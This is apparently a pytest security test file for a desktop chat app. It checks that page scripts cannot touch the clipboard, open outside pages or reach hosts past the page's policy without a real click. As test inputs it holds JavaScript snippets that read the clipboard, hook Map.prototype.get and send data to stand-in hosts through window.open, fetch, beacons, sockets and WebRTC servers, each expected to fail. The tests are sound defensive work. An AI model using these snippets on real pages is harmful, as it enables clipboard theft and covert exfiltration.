"""What a script in the chat page, OpenAI's or one in its place, can't take out of a window, or bring about without a
person: the clipboard, the system's browser, connections past the page's policy. Tried from inside real windows.

Numbers are those of the project's security checklist; 33 to 35 are these: 33, no script reads or writes the clipboard
without a click or key; 34, nothing leaves a window but shortly after a real click or key, one thing for each; 35, no
window connects to anything past its policy, whatever an engine does ahead of need.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from tests.rig.clipboard import held, holding
from tests.rig.display import Display
from tests.rig.scene import scene as made_scene
from tests.window.hall import Hall

pytestmark = [pytest.mark.window, pytest.mark.secret_service]

SECRET = "what another program has copied"
HOOKED = "window.__hooked = (window.__hooked ?? 0) + 1"
"""That the hook was reached, for the control."""


@pytest.fixture(scope="module")
def hall(engine: str, screen: Display, keyring: dict[str, str]) -> Iterator[Hall]:
    with made_scene(engine, screen, keyring) as scene:
        scene.settle()
        with scene.launch() as app:
            scene.wait_chat(app)
            yield Hall(scene, app)


def hook(hall: Hall, code: str) -> None:
    """Put code where the page's own functions go through when the app speaks to it, speak to it, and take it out."""
    hall.app.js(
        "chat",
        "(() => { const stock = Map.prototype.get; window.__hooked = 0;"
        f"Map.prototype.get = function (...a) {{ try {{ {HOOKED}; {code} }} catch {{}} return stock.apply(this, a); }};"
        "window.__unhook = () => { Map.prototype.get = stock; }; return 1; })()",
    )
    hall.app.ask("emit", "chat", "rig.tick", {"n": 1})
    hall.app.until("the hook was reached", lambda: hall.app.js("chat", "window.__hooked > 0"))
    hall.app.js("chat", "(window.__unhook(), 1)")


def rest(hall: Hall) -> None:
    """The time for what was set off to arrive: two round trips of both frames."""
    for _ in range(2):
        hall.in_frame("new Promise((done) => setTimeout(() => done(1), 150))")
        hall.app.js("chat", "1")


# --- the clipboard ---------------------------------------------------------------------------------

WRITE = (
    "navigator.clipboard.writeText('planted')",
    "navigator.clipboard.write([new ClipboardItem({'text/plain': new Blob(['planted'], {type: 'text/plain'})})])",
    """(() => { const t = document.createElement('textarea'); t.value = 'planted'; document.body.append(t); t.select();
    const done = document.execCommand('copy'); t.remove(); return done; })()""",
)
READ = (
    "navigator.clipboard.readText()",
    "navigator.clipboard.read().then((items) => items[0].getType('text/plain')).then((blob) => blob.text())",
    """(() => { const t = document.createElement('textarea'); document.body.append(t); t.focus();
    document.execCommand('paste'); const text = t.value; t.remove(); return text; })()""",
)


def test_checklist_33_no_script_reads_or_writes_the_clipboard_without_a_click(hall: Hall) -> None:
    environ = hall.scene.environ
    hall.outlast_the_click()
    with holding(environ, SECRET):
        for code in READ:
            for ask in (hall.unprompted, hall.in_frame):
                assert SECRET not in str(ask(code)), code
        for code in WRITE:
            for ask in (hall.unprompted, hall.in_frame):
                ask(code)
            assert held(environ) == SECRET, code
        for code in (*WRITE, *READ):
            hook(hall, f"Promise.resolve({code}).then((text) => {{ window.__took = String(text); }})")
            rest(hall)
            assert held(environ) == SECRET, code
            assert SECRET not in str(hall.app.js("chat", "window.__took ?? ''")), code


def test_checklist_33_a_click_does_not_let_the_clipboard_be_read(hall: Hall) -> None:
    with holding(hall.scene.environ, SECRET):
        for code in READ:
            hall.trap(f"Promise.resolve({code}).then((t) => {{ window.took = String(t); }})")
            rest(hall)
            assert SECRET not in str(hall.in_frame("window.took ?? ''")), code


def test_copy_buttons_work_under_a_real_click(hall: Hall) -> None:
    """In the settings the text has to be fetched first; the component's own buttons are in a frame."""
    app, environ = hall.app, hall.scene.environ
    app.ask("show", "settings")
    app.wait_window("settings")
    app.wait_call("key.status")
    app.click("settings", '[data-section="about"]')
    hall.press_here("settings", "#diagnostics")
    app.wait_text("settings", "Copied")
    assert "engine" in held(environ)
    app.ask("close", "settings")
    app.wait_no_window("settings")
    for number, code in enumerate(("navigator.clipboard.writeText", "((t) => copyText(t))")):
        text = f"from the frame {number}"
        hall.in_frame(
            "(window.copyText = (t) => { const a = document.createElement('textarea'); a.value = t;"
            "document.body.append(a); a.select(); document.execCommand('copy'); a.remove(); }, 1)"
        )
        hall.trap(f"{code}.call(navigator.clipboard, '{text}')")
        app.until("copied", lambda: held(environ) == text)  # noqa: B023


# --- the browser ---------------------------------------------------------------------------------------

AWAY = "https://example.test/taken?secret=x"
OPENINGS = {
    "window.open": f"window.open('{AWAY}')",
    "window.open, named": f"window.open('{AWAY}', 'other', 'width=10')",
    "window.open, then moved": f"(() => {{ const w = window.open(''); if (w) w.location = '{AWAY}'; }})()",
    "a link clicked by a script": "(() => { const a = document.createElement('a');"
    f"a.href = '{AWAY}'; a.target = '_blank'; document.body.append(a); a.click(); a.remove(); }})()",
    "a link without a target": "(() => { const a = document.createElement('a');"
    f"a.href = '{AWAY}'; document.body.append(a); a.click(); a.remove(); }})()",
    "a made-up click": "(() => { const a = document.createElement('a');"
    f"a.href = '{AWAY}'; a.target = '_blank'; document.body.append(a);"
    "a.dispatchEvent(new MouseEvent('click', {bubbles: true, ctrlKey: true})); a.remove(); })()",
    "an address": f"(location.href = '{AWAY}')",
    "a form": "(() => { const f = document.createElement('form');"
    f"f.action = '{AWAY}'; f.target = '_blank'; document.body.append(f); f.submit(); f.remove(); }})()",
}


@pytest.mark.parametrize("how", OPENINGS)
def test_checklist_34_a_page_opens_nothing_outside_while_the_app_speaks_to_it(hall: Hall, how: str) -> None:
    """WebKitGTK takes what the app runs in a page for a person's click; a hook in a function on that way had it."""
    before = hall.scene.opened()
    hall.outlast_the_click()
    hook(hall, OPENINGS[how])
    rest(hall)
    assert hall.scene.opened() == before
    assert hall.at_home()
    assert list(hall.app.ask("windows")) == ["chat"]


def test_checklist_34_a_click_opens_one_address_and_no_second_one(hall: Hall) -> None:
    before = len(hall.scene.opened())
    two = ";".join(f"window.open('https://example.test/click/{n}')" for n in range(3))
    link = (
        "const a = document.createElement('a'); a.href = 'https://example.test/click/a'; a.target = '_blank';"
        "document.body.append(a); a.click(); a.remove()"
    )
    hall.trap(f"{two}; {link}; setTimeout(() => {{ {two} }}, 100)")
    hall.app.until("the first one", lambda: len(hall.scene.opened()) > before)
    rest(hall)
    assert len(hall.scene.opened()) == before + 1


def test_checklist_34_writing_opens_nothing_and_enter_on_a_link_does(hall: Hall) -> None:
    app, before = hall.app, hall.scene.opened()
    title = app.ask("windows")["chat"]["title"]
    app.js(
        "chat",
        "(() => { const a = document.createElement('a'); a.id = 'keyed'; a.target = '_blank'; a.textContent = 'link';"
        "a.href = 'https://example.test/keyed'; window.__keys = 0;"
        f"addEventListener('keydown', (e) => {{ window.__keys += 1; if (e.key === 'x') window.open('{AWAY}'); }});"
        "document.body.append(a); a.focus(); return 1; })()",
    )
    hall.click_here()
    app.js("chat", "(document.querySelector('#keyed').focus(), 1)")
    hall.outlast_the_click()
    app.press(title, "x", "x")
    app.until("typed", lambda: app.js("chat", "window.__keys") >= 2)
    rest(hall)
    assert hall.scene.opened() == before
    app.press(title, "Return")
    app.until("opened", lambda: hall.scene.opened() == [*before, "https://example.test/keyed"])
    app.js("chat", "(document.querySelector('#keyed').remove(), 1)")


def test_checklist_34_no_download_asks_for_a_place_without_a_click(hall: Hall) -> None:
    app = hall.app
    hall.outlast_the_click()
    windows = set(app.xdotool("search", "--onlyvisible", "--name", ".").split())
    save = (
        "(() => { const a = document.createElement('a'); a.download = 'letter.txt'; a.href = 'chatkit.js';"
        "document.body.append(a); a.click(); a.remove(); })()"
    )
    hall.unprompted(save)
    hook(hall, save)
    hall.in_frame(save)
    rest(hall)
    app.until("refused", lambda: "a download that no click asked for" in hall.scene.log())
    assert set(app.xdotool("search", "--onlyvisible", "--name", ".").split()) == windows


# --- connections past the policy ------------------------------------------------------------------------


class Ears:
    """Listens on an address of this computer that no page of ours has to do with, for connections and datagrams."""

    def __init__(self, host: str) -> None:
        self.host = host
        self.heard: list[str] = []
        self._tcp = socket.create_server((host, 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.port: int = self._tcp.getsockname()[1]
        self._udp.bind((host, self.port))
        for listen in (self._connections, self._datagrams):
            threading.Thread(target=listen, daemon=True).start()

    def _connections(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            self.heard.append("a connection")
            connection.close()

    def _datagrams(self) -> None:
        while True:
            try:
                data, _ = self._udp.recvfrom(2048)
            except OSError:
                return
            if not data:
                return
            self.heard.append("a datagram")

    def close(self) -> None:
        self._tcp.shutdown(socket.SHUT_RDWR)
        self._tcp.close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as waker:
            waker.sendto(b"", (self.host, self.port))
        self._udp.close()


@contextmanager
def ears(host: str) -> Iterator[Ears]:
    made = Ears(host)
    try:
        yield made
    finally:
        made.close()


def link(rel: str, address: str, document: str = "document") -> str:
    return (
        f"(() => {{ const l = {document}.createElement('link'); l.rel = {json.dumps(rel)}; l.as = 'script';"
        f"l.crossOrigin = ''; l.href = '{address}'; {document}.head.append(l); }})()"
    )


def call(server: str) -> str:
    """A call (WebRTC) with a server for its beginning, through the window's own constructor or that of a new frame."""
    return (
        "(async () => { const f = document.createElement('iframe'); document.body.append(f);"
        "const Call = f.contentWindow.RTCPeerConnection ?? window.RTCPeerConnection; if (!Call) return 'none';"
        f"const c = new Call({{iceServers: [{{urls: '{server}', username: 'a', credential: 'b'}}]}});"
        "c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); return 'called'; })()"
    )


@pytest.mark.parametrize("host", ["127.0.0.3", "127.0.0.1", "localhost"])
def test_checklist_35_no_connection_leaves_past_the_policy(hall: Hall, host: str) -> None:
    with ears("127.0.0.1" if host == "localhost" else host) as heard:
        place = f"{host}:{heard.port}"
        http = f"http://{place}/taken"
        blank = "(() => { const f = document.createElement('iframe'); document.body.append(f); return f; })()"
        tried = {
            **{rel: link(rel, http) for rel in ("preconnect", "dns-prefetch preconnect", "prefetch", "preload")},
            **{rel: link(rel, http) for rel in ("modulepreload", "prerender", "icon", "manifest", "stylesheet")},
            "preconnect, parsed": f"document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href={http}>')",
            "preconnect in a frame": f"((f) => {link('preconnect', http, 'f.contentDocument')})({blank})",
            "fetch": f"fetch('{http}', {{method: 'POST', mode: 'no-cors', body: 'x'}}).catch(() => 0)",
            "beacon": f"navigator.sendBeacon('{http}', 'x')",
            "ping": "(() => { const a = document.createElement('a'); a.href = '#'; "
            f"a.ping = '{http}'; document.body.append(a); a.click(); a.remove(); }})()",
            "web socket": f"(() => {{ try {{ new WebSocket('ws://{place}/') }} catch {{}} }})()",
            "web transport": f"(() => {{ try {{ new WebTransport('https://{place}/') }} catch {{}} }})()",
            "events": f"(() => {{ new EventSource('{http}') }})()",
            "window moved": f"(() => {{ const w = window.open(''); if (w) w.location = '{http}'; }})()",
            **{
                server: call(server)
                for server in (
                    f"stun:{place}",
                    f"turn:{place}",
                    f"turn:{place}?transport=tcp",
                    f"turns:{place}?transport=tcp",
                )
            },
        }
        for how, code in tried.items():
            hall.promised(f"(async () => {code})()")  # what an engine refuses by throwing is refused
            rest(hall)
            assert heard.heard == [], how
        socket.create_connection((heard.host, heard.port)).close()
        hall.app.until("the control", lambda: heard.heard == ["a connection"])
        assert hall.app.js("chat", "location.href").split("#")[0] == hall.app.ask("url", "chat")
